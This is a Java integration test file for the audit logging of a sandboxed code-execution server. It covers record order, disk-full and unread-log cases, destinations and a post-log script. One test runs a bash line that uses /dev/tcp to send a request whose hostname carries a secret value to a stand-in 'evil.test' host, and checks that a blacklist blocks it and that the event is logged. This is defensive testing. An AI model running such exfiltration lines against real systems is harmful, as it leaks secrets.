package io.isol8.app;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.isol8.client.RemoteIsol8;
import io.isol8.domain.ExecutionRequest;
import io.isol8.ports.RunningExecution;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** What {@code isol8 serve} writes down of executions (spec 21), on real Docker. */
final class AuditIT {

    private static final int MANY = 1000;
    private static final Duration PATIENCE = Duration.ofSeconds(60);

    /** Draining, cancelling and telling have 5 s each, the last records 2. */
    private static final Duration BOUND = Duration.ofSeconds(60);

    @RegisterExtension
    final EngineWatch engine = new EngineWatch();

    @TempDir
    private Path directory;

    private final HttpClient http = HttpClient.newHttpClient();
    private Optional<RunningServer> running = Optional.empty();

    private RunningServer serve(String audit, String... more) throws IOException {
        Path config = Files.writeString(directory.resolve("c.json"), "{\"audit\": {\"enabled\": true" + audit + "}}");
        List<String> arguments = new ArrayList<>(List.of("serve", "--config", config.toString()));
        arguments.addAll(List.of(more));
        RunningServer server = RunningServer.of(engine.isol8(arguments.toArray(String[]::new))
                .in(directory)
                .env("ISOL8_PORT", Integer.toString(RunningServer.freePort()))
                .env("ISOL8_API_KEY", RunningServer.KEY));
        running = Optional.of(server);
        return server;
    }

    private CliResult end() {
        RunningServer server = running.orElseThrow();
        running = Optional.empty();
        CliResult result = server.signal("TERM").result(BOUND);
        assertThat(result.exitCode()).as(result.toString()).isZero();
        return result;
    }

    @AfterEach
    void endAfterFailures() {
        running.ifPresent(server -> server.signal("TERM").result(BOUND));
    }

    private HttpResponse<String> post(RunningServer server, String key, String path, String body) {
        return http.sendAsync(
                        HttpRequest.newBuilder(URI.create(server.url() + path))
                                .header("Authorization", "Bearer " + key)
                                .POST(BodyPublishers.ofString(body))
                                .build(),
                        BodyHandlers.ofString())
                .join();
    }

    private HttpResponse<String> execute(RunningServer server, String request) {
        return post(server, RunningServer.KEY, "/execute", "{\"request\": {" + request + "}}");
    }

    private Path log() {
        return directory.resolve("logs/executions.log");
    }

    private static String bash(String code, int number) {
        return "\"runtime\": \"bash\", \"code\": \"" + code + "\", \"metadata\": {\"number\": \"" + number + "\"}";
    }

    /** One of eight things, and the termination and error code that its record is to have. */
    private String doOne(RunningServer server, RemoteIsol8 client, String token, int number)
            throws InterruptedException {
        switch (number % 8) {
            case 0 -> {
                execute(server, bash("echo hi", number));
                return "exited ";
            }
            case 1 -> {
                post(
                        server,
                        RunningServer.KEY,
                        "/execute/stream",
                        "{\"request\": {" + bash("echo hi; exit 3", number) + "}}");
                return "exited ";
            }
            case 2 -> {
                execute(server, bash("kill -SEGV $$", number));
                return "signaled ";
            }
            case 3 -> {
                execute(server, bash("echo hi", number) + ", \"setupScript\": \"exit 5\"");
                return "failed setup_failed";
            }
            case 4 -> {
                execute(server, bash("sleep 20", number) + ", \"timeoutMs\": 50");
                return "timeout ";
            }
            case 5 -> {
                try (RunningExecution execution = client.executeStream(ExecutionRequest.builder("bash")
                        .code("echo ready; sleep 20")
                        .metadata("number", Integer.toString(number))
                        .build())) {
                    execution.next();
                }
                await().atMost(PATIENCE)
                        .pollInterval(Duration.ofMillis(5))
                        .until(() -> AuditLines.of(log()).size() > number);
                return "cancelled ";
            }
            case 6 -> {
                execute(
                        server,
                        "\"runtime\": \"perl\", \"code\": \"1\", \"metadata\": {\"number\": \"" + number + "\"}");
                return "refused invalid_request";
            }
            default -> {
                post(
                        server,
                        token,
                        "/execute",
                        "{\"request\": {" + bash("echo hi", number) + "}, \"options\": {\"cpuLimit\": 1000}}");
                return "refused beyond_policy";
            }
        }
    }

    private static String ending(String line) {
        String error = line.contains("\"error\":{")
                ? AuditLines.field(line.substring(line.indexOf("\"error\":{")), "code")
                : "";
        return (AuditLines.field(line, "termination") + " " + error).replace("\"", "");
    }

    @Test
    void a_record_is_on_disk_for_each_of_a_thousand_mixed_executions_in_order()
            throws IOException, InterruptedException {
        RunningServer server = serve(
                ", \"logDir\": \"logs\"",
                "--auth-db",
                directory.resolve("keys.db").toString());
        String token = post(server, RunningServer.KEY, "/auth/login", "{\"tenantId\": \"acme\"}")
                .body()
                .replaceFirst(".*\"token\":\"([^\"]*)\".*", "$1");
        List<String> expected = new ArrayList<>();
        try (RemoteIsol8 client = server.client()) {
            for (int number = 0; number < MANY; number++) {
                expected.add(number + " " + doOne(server, client, token, number));
            }
        }
        CliResult result = end();
        assertThat(result.err()).isEmpty();
        List<String> lines = AuditLines.of(log());
        assertThat(lines).hasSize(MANY).allMatch(AuditLines::isWhole);
        assertThat(lines.stream()
                        .map(line -> AuditLines.field(line, "number").replace("\"", "") + " " + ending(line))
                        .toList())
                .isEqualTo(expected);
        assertThat(AuditLines.ids(lines.stream())).doesNotHaveDuplicates();
        assertThat(lines).noneMatch(line -> line.contains("lostRecords") || line.contains("\"stdout\""));
    }

    @Test
    void a_client_has_no_say() throws IOException {
        RunningServer server = serve(", \"logDir\": \"logs\"");
        post(
                server,
                RunningServer.KEY,
                "/execute",
                "{\"request\": {" + bash("echo hi", 1)
                        + "}, \"options\": {\"audit\": {\"enabled\": false, \"includeCode\": true, \"logDir\": \"/x\"}}}");
        end();
        assertThat(AuditLines.of(log())).singleElement().asString().doesNotContain("echo hi");
    }

    @Test
    void what_a_program_was_kept_from_is_told_and_everything_if_it_is_to_be() throws IOException {
        RunningServer server = serve(", \"logDir\": \"logs\"");
        String program = bash(
                "exec 3<>/dev/tcp/127.0.0.1/8118; printf 'GET http://hunter2.evil.test/a HTTP/1.0\\r\\n\\r\\n' >&3;"
                        + " head -n 1 <&3",
                1);
        for (boolean listed : new boolean[] {false, true}) {
            HttpResponse<String> answer = post(
                    server,
                    RunningServer.KEY,
                    "/execute",
                    "{\"request\": {" + program + "}, \"options\": {\"network\": \"filtered\", \"logNetwork\": "
                            + listed
                            + ", \"networkFilter\": {\"blacklist\": [\"evil\"]}, \"secrets\": {\"A\": \"hunter2\"}}}");
            assertThat(answer.body()).contains("HTTP/1.1 403 Forbidden");
        }
        end();

        String event =
                "\"securityEvents\":[{\"type\":\"network_blocked\",\"message\":\"Security event: network_blocked\","
                        + "\"details\":{\"method\":\"GET\",\"host\":\"***.evil.test\",\"reason\":\"the blacklist has it\"},";
        List<String> lines = AuditLines.of(log());
        assertThat(lines).hasSize(2).allMatch(line -> AuditLines.isWhole(line) && line.contains(event));
        assertThat(lines.get(0)).doesNotContain("networkLogs");
        assertThat(lines.get(1)).contains("\"networkLogs\":[{", "\"path\":\"/a\",\"action\":\"BLOCK\"");
    }

    @Test
    void results_tell_the_cost_as_records_do() throws IOException {
        assertThat(execute(serve(", \"logDir\": \"logs\""), bash("echo hi", 1)).body())
                .contains("\"resourceUsage\":{\"cpuPercent\":");
        end();
        assertThat(AuditLines.of(log()).get(0)).contains("\"resourceUsage\":{\"cpuPercent\":");
        assertThat(execute(serve(", \"logDir\": \"logs\", \"trackResources\": false"), bash("echo hi", 1))
                        .body())
                .doesNotContain("resourceUsage");
        end();
        assertThat(AuditLines.of(log()).get(1)).doesNotContain("resourceUsage");
    }

    @Test
    void a_log_that_nobody_reads_keeps_nobody_waiting_not_even_at_the_end() throws Exception {
        Files.createDirectories(log().getParent());
        assertThat(new ProcessBuilder("mkfifo", log().toString()).start().waitFor())
                .isZero();
        RunningServer server = serve(", \"logDir\": \"logs\"");
        for (int number = 0; number < 50; number++) {
            assertThat(execute(server, bash("echo hi", number)).statusCode()).isEqualTo(200);
        }
        assertThat(end().err()).contains(" ERROR AuditWriter - Audit records are lost: 50 were not written");
    }

    @Test
    void a_disk_that_is_full_fails_nothing_and_the_record_after_it_tells() throws Exception {
        Path disk = Files.createDirectories(log().getParent());
        shell("mount -t tmpfs -o size=64k tmpfs " + disk);
        try {
            Path filler = Files.write(disk.resolve("filler"), new byte[40 << 10]);
            RunningServer server = serve(", \"logDir\": \"logs\", \"includeCode\": true");
            for (int number = 0; number < 40; number++) {
                assertThat(execute(server, bash("echo " + "x".repeat(2000), number))
                                .statusCode())
                        .isEqualTo(200);
            }
            await().atMost(PATIENCE).until(() -> Files.size(log()) > 20_000);
            Files.delete(filler);
            assertThat(execute(server, bash("echo hi", 100)).statusCode()).isEqualTo(200);
            assertThat(end().err())
                    .contains(" ERROR AuditWriter - Audit records are lost, 1 so far: The audit log ")
                    .contains("No space left on device");
            List<String> whole =
                    AuditLines.of(log()).stream().filter(AuditLines::isWhole).toList();
            assertThat(AuditLines.field(whole.get(whole.size() - 1), "number")).isEqualTo("\"100\"");
            int lost = whole.stream()
                    .map(line -> AuditLines.field(line, "lostRecords"))
                    .filter(count -> !count.isEmpty())
                    .mapToInt(Integer::parseInt)
                    .sum();
            assertThat(lost).isPositive();
            assertThat(lost + whole.size()).isEqualTo(41);
        } finally {
            shell("umount -l " + disk);
        }
    }

    private static void shell(String command) throws IOException, InterruptedException {
        assertThat(new ProcessBuilder("sh", "-c", command).inheritIO().start().waitFor())
                .isZero();
    }

    @Test
    void records_on_standard_output() throws IOException {
        RunningServer server = serve(", \"destination\": \"stdout\"");
        execute(server, bash("echo hi", 7));
        List<String> lines = end().out()
                .lines()
                .filter(line -> line.startsWith("AUDIT_LOG: "))
                .toList();
        assertThat(lines).singleElement().satisfies(line -> {
            assertThat(AuditLines.isWhole(line)).isTrue();
            assertThat(AuditLines.field(line, "number")).isEqualTo("\"7\"");
        });
    }

    @Test
    void records_that_have_nowhere_to_go_are_dropped_aloud() throws IOException {
        RunningServer server = serve(", \"destination\": \"syslog\"");
        assertThat(execute(server, bash("echo hi", 7)).statusCode()).isEqualTo(200);
        assertThat(end().err())
                .contains("audit.destination must be \"filesystem\", \"file\" or \"stdout\"")
                .contains(
                        "ERROR AuditWriter - Audit records are lost, 1 so far: There is no audit.destination \"syslog\".");
    }

    @Test
    void a_script_runs_after_each_record() throws IOException {
        Path script = Files.writeString(directory.resolve("after"), "#!/bin/sh\nwc -l < \"$1\" > told\n");
        assertThat(script.toFile().setExecutable(true)).isTrue();
        RunningServer server = serve(", \"postLogScript\": \"after\"");
        for (int number = 0; number < 3; number++) {
            execute(server, bash("echo hi", number));
        }
        await().atMost(PATIENCE)
                .until(() -> Files.exists(directory.resolve("told"))
                        && Files.readString(directory.resolve("told")).strip().equals("3"));
        end();
        assertThat(directory.resolve(".isol8_audit/executions.log")).exists();
    }
}
